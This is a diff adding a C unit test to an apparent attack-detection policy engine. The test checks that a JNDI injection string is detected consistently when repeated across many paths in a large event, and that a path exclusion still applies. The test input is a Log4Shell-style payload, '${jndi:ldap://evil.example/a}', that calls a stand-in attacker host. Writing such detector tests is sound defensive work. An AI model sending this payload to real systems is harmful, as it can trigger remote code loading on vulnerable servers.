@@ -697,6 +697,63 @@ START_TEST(policy_rules_regex_targets_exclusions)
 }
 END_TEST
 
+/* Big events replay the detectors' verdicts on strings met before: the
+ * same attack at many paths must still be found at each, as in an event of
+ * its own, and an exclusion by path must still apply to each one alone. */
+START_TEST(repeated_strings_judged_alike)
+{
+	const char *p = write_tmp("excl.json",
+		"{\"exclusions\": [{\"rules\": [\"jndi\"], \"paths\": [\"b3\"]}]}\n");
+	char err[256];
+	struct pol_engine *e;
+	ck_assert_msg(pol_engine_new(&e, &p, 1, POL_MODE_MONITOR, err, sizeof(err)) == 0, "%s", err);
+	static const char attack[] = "${jndi:ldap://evil.example/a}";
+	/* alone: which rules fire */
+	struct pol_result *r;
+	char small[256];
+	snprintf(small, sizeof(small), "{\"b0\":\"%s\"}", attack);
+	ck_assert_int_eq(pol_inspect(e, small, strlen(small), &r), 0);
+	size_t alone = pol_result_count(r);
+	ck_assert_uint_gt(alone, 0);
+	char rules[8][64];
+	for (size_t k = 0; k < alone && k < 8; k++)
+		snprintf(rules[k], sizeof(rules[k]), "%s", pol_result_finding(r, k)->rule);
+	pol_result_free(r);
+	/* in a big event, after hundreds of repeated benign strings */
+	size_t cap = 1 << 16, len = 0;
+	char *big = malloc(cap);
+	len += (size_t)snprintf(big + len, cap - len, "{");
+	for (int i = 0; i < 600; i++)
+		len += (size_t)snprintf(big + len, cap - len, "\"a%d\":\"the same note\",", i);
+	for (int i = 0; i < 6; i++)
+		len += (size_t)snprintf(big + len, cap - len, "%s\"b%d\":\"%s\"", i ? "," : "", i,
+					attack);
+	len += (size_t)snprintf(big + len, cap - len, "}");
+	ck_assert_int_eq(pol_inspect(e, big, len, &r), 0);
+	for (int i = 0; i < 6; i++) {
+		char path[8];
+		snprintf(path, sizeof(path), "b%d", i);
+		size_t at = 0;
+		for (size_t k = 0; k < pol_result_count(r); k++) {
+			const struct pol_finding *f = pol_result_finding(r, k);
+			if (strcmp(f->path, path) != 0)
+				continue;
+			ck_assert_msg(i != 3 || f->category != POL_CAT_JNDI, "b3 excluded");
+			if (i != 3) {
+				ck_assert_uint_lt(at, alone);
+				ck_assert_str_eq(f->rule, rules[at]);
+			}
+			at++;
+		}
+		if (i != 3)
+			ck_assert_msg(at == alone, "%s: %zu findings, %zu alone", path, at, alone);
+	}
+	pol_result_free(r);
+	free(big);
+	pol_engine_free(e);
+}
+END_TEST
+
 START_TEST(policy_check_names_file_line_cause)
 {
 	static const struct {
@@ -748,6 +805,7 @@ static Suite *policies_suite(void)
 	tcase_add_test(t, structural_findings_in_keys);
 	tcase_add_test(t, one_engine_many_threads);
 	tcase_add_test(t, policy_rules_regex_targets_exclusions);
+	tcase_add_test(t, repeated_strings_judged_alike);
 	tcase_add_test(t, policy_check_names_file_line_cause);
 	suite_add_tcase(s, t);
 	return s;
